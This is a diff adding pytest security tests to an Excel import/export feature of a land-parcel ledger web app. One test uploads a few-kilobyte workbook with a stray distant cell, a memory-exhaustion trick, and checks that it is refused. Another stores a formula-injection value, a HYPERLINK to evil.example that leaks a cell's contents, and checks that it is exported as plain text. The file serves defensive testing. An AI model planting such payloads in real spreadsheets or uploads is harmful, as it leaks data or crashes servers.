@@ -1,0 +1,67 @@
+"""Review of issue 13's features as an attacker: each test is a defect found, and stays fixed."""
+
+from __future__ import annotations
+
+import io
+import zipfile
+
+import openpyxl
+import pytest
+from fastapi.testclient import TestClient
+from sqlalchemy.orm import Session
+
+from layers.base import REGISTRY
+from tests.test_excel import _book, _bytes, _column, _parcel, _store, _upload
+
+PARCELS = REGISTRY["parcels"]
+
+
+def _sparse(last_cell: str) -> bytes:
+    """Return a few-KB workbook: the parcel header, one row, and one stray value in LAST_CELL."""
+    wb = openpyxl.Workbook()
+    ws = wb.active
+    ws.title = "台账"
+    key = PARCELS.field(PARCELS.key_field)
+    ws.append([key.zh, "名称"])
+    ws.append(["370214001009010000001", "地块"])
+    ws[last_cell] = "x"
+    return _bytes(wb)
+
+
+@pytest.mark.parametrize("last_cell", ["A1048576", "XFD1048576"])
+def test_a_tiny_workbook_with_a_stray_cell_far_away_is_refused_before_it_is_unpacked(
+    client: TestClient, last_cell: str
+) -> None:
+    # 5 KB: calamine makes the dense range of every cell up to the stray one (A: 2 M cells and
+    # 300 MB; XFD: 17 G cells, and the Rust allocator aborts the whole server process).
+    body = _sparse(last_cell)
+    assert len(body) < 10_000
+    answer = _upload(client, body)
+    assert answer.status_code == 400, answer.text
+    problem = answer.json()
+    assert problem["code"] == "sheet_too_large"
+    assert last_cell in problem["message"] and "台账" in problem["message"]
+
+
+def test_a_sheet_as_wide_as_a_real_ledger_still_imports(client: TestClient, session: Session) -> None:
+    # the bound is on cells that hold a value: a ledger's few columns pass, and a styled empty cell counts not
+    wb = openpyxl.Workbook()
+    ws = wb.active
+    key = PARCELS.field(PARCELS.key_field)
+    ws.append([key.zh, "名称", "备注"])
+    ws["C5000"].number_format = "@"  # formatting only: no value
+    body = _bytes(wb)
+    with zipfile.ZipFile(io.BytesIO(body)) as zf:
+        assert b"C5000" in zf.read("xl/worksheets/sheet1.xml")
+    answer = _upload(client, body, import_mode="update")
+    assert answer.status_code != 422 or answer.json()["code"] != "sheet_too_large", answer.text
+
+
+def test_exported_text_starting_with_equals_stays_text_not_a_formula(client: TestClient, session: Session) -> None:
+    hostile = '=HYPERLINK("http://evil.example/?"&A3,"点击查看")'
+    _store(session, _parcel(1, name=hostile, address="=1+1"))
+    ws = _book(client.get("/api/layers/parcels/export.xlsx"))[PARCELS.zh]
+    name = ws.cell(row=3, column=_column(ws, PARCELS.field("name").zh))
+    address = ws.cell(row=3, column=_column(ws, PARCELS.field("address").zh))
+    assert (name.value, name.data_type) == (hostile, "s")
+    assert (address.value, address.data_type) == ("=1+1", "s")
